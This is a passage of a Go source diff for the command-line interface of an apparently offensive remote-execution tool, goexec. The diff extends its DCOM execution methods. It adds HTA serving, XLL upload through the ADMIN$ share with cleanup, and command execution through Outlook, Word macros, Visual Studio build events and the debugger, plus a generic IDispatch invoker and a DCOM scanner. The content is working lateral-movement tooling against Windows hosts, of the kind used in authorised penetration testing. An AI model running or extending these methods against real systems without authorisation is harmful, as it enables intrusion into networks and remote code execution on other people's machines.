     Long: `Description:
   The htafile method uses the exposed "HTML Application" DCOM object to load a remote HTA application or execute inline.
   This is made possible by the Load method of the IPersistMoniker interface.`,
-    Args: args(argsRpcClient("host", ""), argsOutput("smb")),
+    Args: args(argsRpcClient("host", ""), argsDcomConnection, argsOutput("smb")),
     RunE: func(cmd *cobra.Command, args []string) error {
       dcomHtafile.Client = &rpcClient
-      dcomHtafile.Url = dcomexec.HtafileGetUrl(dcomHtafile.Url, dcomHtafile.Javascript, dcomHtafile.Vbscript, &exec)
+
+      if dcomHtafileServe != "" {
+        content, err := os.ReadFile(dcomHtafileServe)
+        if err != nil {
+          return fmt.Errorf("read HTA file: %w", err)
+        }
+        dcomHtafileServer.Content = content
+        dcomHtafile.Server = &dcomHtafileServer
+      } else {
+        dcomHtafile.Url = dcomexec.HtafileGetUrl(dcomHtafile.Url, dcomHtafile.Javascript, dcomHtafile.Vbscript, &exec)
+      }
 
       if url := strings.ToLower(dcomHtafile.Url); (strings.HasPrefix(url, "javascript:") || strings.HasPrefix(url, "vbscript:")) && len(url) > 508 {
         return fmt.Errorf("script URL exceeds maximum length supported by mshta.exe (%d > 508)", len(url))
       }
       ctx := log.With().Str("module", dcomexec.ModuleName).Str("method", dcomexec.MethodHtafile).
-        Logger().WithContext(gssapi.NewSecurityContext(context.Background()))
+        Logger().WithContext(dcomContext())
 
       if err := goexec.ExecuteCleanMethod(ctx, &dcomHtafile, &exec); err != nil {
         log.Fatal().Err(err).Msg("Operation failed")
@@ -326,8 +713,10 @@ var (
     Short: "Execute using Excel 4.0 macros (XLM)",
     Long: `Description:
   The macro method uses the exposed Excel.Application DCOM object to call ExecuteExcel4Macro, thus executing
-  XLM macros at will. This method requires that the remote host has Microsoft Excel installed.`,
-    Args: args(argsRpcClient("host", ""), argsOutput("smb"),
+  XLM macros at will. With --sheet, the macros are written to a hidden macro sheet and run as one routine, so
+  that state like variables and loops is kept between lines. This method requires that the remote host has
+  Microsoft Excel installed.`,
+    Args: args(argsRpcClient("host", ""), argsDcomConnection, argsOutput("smb"),
       func(*cobra.Command, []string) error {
         if dcomExcelMacro.MacroFile != "" {
           f, err := os.Open(dcomExcelMacro.MacroFile)
@@ -347,7 +736,7 @@ var (
     Run: func(*cobra.Command, []string) {
       dcomExcelMacro.Client = &rpcClient
       ctx := log.With().Str("module", dcomexec.ModuleName).Str("method", dcomexec.MethodExcelMacro).
-        Logger().WithContext(gssapi.NewSecurityContext(context.Background()))
+        Logger().WithContext(dcomContext())
 
       if err := goexec.ExecuteCleanMethod(ctx, &dcomExcelMacro, &exec); err != nil {
         log.Fatal().Err(err).Msg("Operation failed")
@@ -360,13 +749,38 @@ var (
     Short: "Execute by Loading an XLL add-in",
     Long: `Description:
   The xll method uses the exposed Excel.Application DCOM object to call RegisterXLL, thus loading a XLL/DLL.
-  The XLL location (--xll) can be a path on the remote filesystem or an UNC path. This method requires that the
-  remote host has Microsoft Excel installed.`,
-    Args: args(argsRpcClient("host", "")),
+  The XLL location (--xll) can be a path on the remote filesystem or an UNC path. A local XLL can be uploaded
+  over SMB with --upload, in which case it is removed after execution. This method requires that the remote
+  host has Microsoft Excel installed.`,
+    Args: args(argsRpcClient("host", ""), argsDcomConnection,
+      func(cmd *cobra.Command, a []string) error {
+        if dcomExcelXllUpload == "" {
+          return nil
+        }
+        if dcomExcelXll.XllLocation == "" {
+          dcomExcelXll.XllLocation = `C:\Windows\Temp\` + uuid.NewString() + ".xll"
+        } else if !strings.HasPrefix(strings.ToLower(dcomExcelXll.XllLocation), `c:\windows\`) {
+          return fmt.Errorf("upload destination %q must be in C:\\Windows (ADMIN$)", dcomExcelXll.XllLocation)
+        }
+        content, err := os.ReadFile(dcomExcelXllUpload)
+        if err != nil {
+          return fmt.Errorf("read XLL file: %w", err)
+        }
+        dcomExcelXll.XllFile = bytes.NewReader(content)
+        dcomExcelXll.Stager = &smb.FileStager{
+          Client:      &smbClient,
+          Share:       `ADMIN$`,
+          SharePath:   `C:\Windows`,
+          File:        dcomExcelXll.XllLocation,
+          DeleteStage: !dcomExcelXllNoDelete,
+        }
+        return argsSmbClient()(cmd, a)
+      },
+    ),
     Run: func(*cobra.Command, []string) {
       dcomExcelXll.Client = &rpcClient
       ctx := log.With().Str("module", dcomexec.ModuleName).Str("method", dcomexec.MethodExcelXLL).
-        Logger().WithContext(gssapi.NewSecurityContext(context.Background()))
+        Logger().WithContext(dcomContext())
 
       if err := goexec.ExecuteCleanAuxiliaryMethod(ctx, &dcomExcelXll); err != nil {
         log.Fatal().Err(err).Msg("Operation failed")
@@ -374,21 +788,195 @@ var (
     },
   }
 
+  dcomOutlookCmd = &cobra.Command{
+    Use:   "outlook [target]",
+    Short: "Execute with the Outlook.Application DCOM object",
+    Long: `Description:
+  The outlook method uses the exposed Outlook.Application DCOM object to call CreateObject("WScript.Shell").Run,
+  and spawn the provided process. This method requires that the remote host has Microsoft Outlook installed.`,
+    Args: args(argsRpcClient("host", ""), argsDcomConnection, argsOutput("smb")),
+    Run: func(*cobra.Command, []string) {
+      dcomOutlook.Client = &rpcClient
+      ctx := log.With().Str("module", dcomexec.ModuleName).Str("method", dcomexec.MethodOutlook).
+        Logger().WithContext(dcomContext())
+
+      if err := goexec.ExecuteCleanMethod(ctx, &dcomOutlook, &exec); err != nil {
+        log.Fatal().Err(err).Msg("Operation failed")
+      }
+    },
+  }
+
+  dcomWordCmd = &cobra.Command{
+    Use:   "word [target]",
+    Short: "Execute with the Word.Application DCOM object",
+    Long: `Description:
+  The word method uses the exposed Word.Application DCOM object to open a document (--document) and/or
+  run a macro with Application.Run (--macro). The document can be a path on the remote filesystem or an
+  UNC path, and its auto macros (i.e. AutoOpen) run when it is opened. This method requires that the
+  remote host has Microsoft Word installed.`,
+    Args: args(argsRpcClient("host", ""), argsDcomConnection),
+    Run: func(*cobra.Command, []string) {
+      dcomWordMacro.Client = &rpcClient
+      ctx := log.With().Str("module", dcomexec.ModuleName).Str("method", dcomexec.MethodWordMacro).
+        Logger().WithContext(dcomContext())
+
+      if err := goexec.ExecuteCleanAuxiliaryMethod(ctx, &dcomWordMacro); err != nil {
+        log.Fatal().Err(err).Msg("Operation failed")
+      }
+    },
+  }
+
   dcomVisualStudioDteCmd = &cobra.Command{
     Use:   "dte [target]",
     Short: "Execute with the VisualStudio.DTE object",
     Long: `Description:
   The dte method uses the exposed VisualStudio.DTE object to spawn a process via the ExecuteCommand method. This method
   requires that the remote host has Microsoft Visual Studio installed.`,
-    Args: args(argsRpcClient("host", ""), argsOutput("smb")),
+    Args: args(argsRpcClient("host", ""), argsDcomConnection, argsOutput("smb")),
     Run: func(*cobra.Command, []string) {
       dcomVisualStudioDte.Client = &rpcClient
       ctx := log.With().Str("module", dcomexec.ModuleName).Str("method", dcomexec.MethodVisualStudioDTE).
-        Logger().WithContext(gssapi.NewSecurityContext(context.Background()))
+        Logger().WithContext(dcomContext())
 
       if err := goexec.ExecuteCleanMethod(ctx, &dcomVisualStudioDte, &exec); err != nil {
         log.Fatal().Err(err).Msg("Operation failed")
       }
     },
   }
+
+  dcomVisualStudioBuildCmd = &cobra.Command{
+    Use:   "build [target]",
+    Short: "Execute with a Visual Studio pre-build event",
+    Long: `Description:
+  The build method uses the exposed VisualStudio.DTE object to open a solution (--solution), set the
+  pre-build event of one of its projects to the command, and build the solution with
+  Solution.SolutionBuild.Build. The original pre-build event is restored afterwards. This method requires
+  that the remote host has Microsoft Visual Studio installed.`,
+    Args: args(argsRpcClient("host", ""), argsDcomConnection, argsOutput("smb")),
+    Run: func(*cobra.Command, []string) {
+      dcomVisualStudioBuild.Client = &rpcClient
+      ctx := log.With().Str("module", dcomexec.ModuleName).Str("method", dcomexec.MethodVisualStudioBuild).
+        Logger().WithContext(dcomContext())
+
+      if err := goexec.ExecuteCleanMethod(ctx, &dcomVisualStudioBuild, &exec); err != nil {
+        log.Fatal().Err(err).Msg("Operation failed")
+      }
+    },
+  }
+
+  dcomVisualStudioDebugCmd = &cobra.Command{
+    Use:   "debug [target]",
+    Short: "Execute with the Visual Studio debugger",
+    Long: `Description:
+  The debug method uses the exposed VisualStudio.DTE object to open a solution (--solution), set the
+  start action of one of its projects to the program, and start it with Debugger.Go. The debugger is
+  detached once the program runs, and the original start action is restored. This method requires that
+  the remote host has Microsoft Visual Studio installed.`,
+    Args: args(argsRpcClient("host", ""), argsDcomConnection, argsOutput("smb")),
+    Run: func(*cobra.Command, []string) {
+      dcomVisualStudioDebug.Client = &rpcClient
+      ctx := log.With().Str("module", dcomexec.ModuleName).Str("method", dcomexec.MethodVisualStudioDebug).
+        Logger().WithContext(dcomContext())
+
+      if err := goexec.ExecuteCleanMethod(ctx, &dcomVisualStudioDebug, &exec); err != nil {
+        log.Fatal().Err(err).Msg("Operation failed")
+      }
+    },
+  }
+
+  dcomDispatchCmd = &cobra.Command{
+    Use:   "dispatch [target]",
+    Short: "Invoke any member of a DCOM object through IDispatch",
+    Long: `Description:
+  The dispatch method instantiates the DCOM object identified by --clsid, then
+  resolves and invokes the provided dot-separated member through IDispatch.
+  Use --call to call a method, --get to read a property, or --put to set a
+  property to the single --arg value. Arguments are passed in declaration
+  order as "type:value", where type is one of str, int, short, long, uint,
+  ulong, byte, float, double or bool. The arguments "null" and "empty" have
+  no value, "get:member" passes the result of a property get on the object,
+  and arguments without a known type are passed as strings. The result is
+  written to stdout as JSON.`,
+    Args: args(argsRpcClient("host", ""), argsDcomConnection,
+      func(*cobra.Command, []string) error {
+        switch {
+        case dcomDispatchGet != "":
+          dcomDispatch.Member, dcomDispatch.Invoke = dcomDispatchGet, dcomexec.InvokeGet
+        case dcomDispatchPut != "":
+          if len(dcomDispatch.Args) != 1 {
+            return fmt.Errorf("--put requires exactly one --arg")
+          }
+          dcomDispatch.Member, dcomDispatch.Invoke = dcomDispatchPut, dcomexec.InvokePut
+        default:
+          dcomDispatch.Member, dcomDispatch.Invoke = dcomDispatchCall, dcomexec.InvokeCall
+        }
+        return nil
+      },
+    ),
+    Run: func(*cobra.Command, []string) {
+      dcomDispatch.Client = &rpcClient
+      dcomDispatch.Out = os.Stdout
+      ctx := log.With().Str("module", dcomexec.ModuleName).Str("method", dcomexec.MethodDispatch).
+        Logger().WithContext(dcomContext())
+
+      if err := goexec.ExecuteCleanAuxiliaryMethod(ctx, &dcomDispatch); err != nil {
+        log.Fatal().Err(err).Msg("Operation failed")
+      }
+    },
+  }
+
+  dcomScanCmd = &cobra.Command{
+    Use:   "scan [target]",
+    Short: "Find DCOM objects that can be activated on the remote host",
+    Long: `Description:
+  The scan method activates each DCOM class known to the module, and any class
+  provided with --class, using RemoteCreateInstance. It reports which classes
+  are registered and launchable by the current principal, which of the
+  IUnknown, IDispatch and IPersistMoniker interfaces they answer to, and
+  whether IDispatch type information is available. Activated objects are
+  released once scanned, but note that activation may start processes such as
+  EXCEL.EXE on the remote host.`,
+    Args: args(argsRpcClient("host", ""), argsDcomConnection,
+      argsAcceptValues("format", &dcomScan.Format, dcomexec.ScanFormatJson, dcomexec.ScanFormatTable),
+      func(*cobra.Command, []string) error {
+        if dcomScan.NoKnown && len(dcomScan.Classes) == 0 {
+          return fmt.Errorf("--no-known requires at least one --class")
+        }
+        return nil
+      },
+    ),
+    Run: func(*cobra.Command, []string) {
+      dcomScan.Client = &rpcClient
+      dcomScan.Out = os.Stdout
+      ctx := log.With().Str("module", dcomexec.ModuleName).Str("method", dcomexec.MethodScan).
+        Logger().WithContext(dcomContext())
+
+      if err := goexec.ExecuteCleanAuxiliaryMethod(ctx, &dcomScan); err != nil {
+        log.Fatal().Err(err).Msg("Operation failed")
+      }
+    },
+  }
+
+  dcomTypeInfoCmd = &cobra.Command{
+    Use:   "typeinfo [target]",
+    Short: "Describe the interface of a DCOM object",
+    Long: `Description:
+  The typeinfo method instantiates the DCOM object identified by --clsid, then
+  uses IDispatch::GetTypeInfo to describe its methods and properties, including
+  parameters, property get/put accessors and return types. Use --path to
+  describe an object returned by a property of the instantiated object.`,
+    Args: args(argsRpcClient("host", ""), argsDcomConnection,
+      argsAcceptValues("format", &dcomTypeInfo.Format, dcomexec.TypeInfoFormatText, dcomexec.TypeInfoFormatJson),
+    ),
+    Run: func(*cobra.Command, []string) {
+      dcomTypeInfo.Client = &rpcClient
+      dcomTypeInfo.Out = os.Stdout
+      ctx := log.With().Str("module", dcomexec.ModuleName).Str("method", dcomexec.MethodTypeInfo).
+        Logger().WithContext(dcomContext())
+
+      if err := goexec.ExecuteCleanAuxiliaryMethod(ctx, &dcomTypeInfo); err != nil {
+        log.Fatal().Err(err).Msg("Operation failed")
+      }
+    },
+  }
 )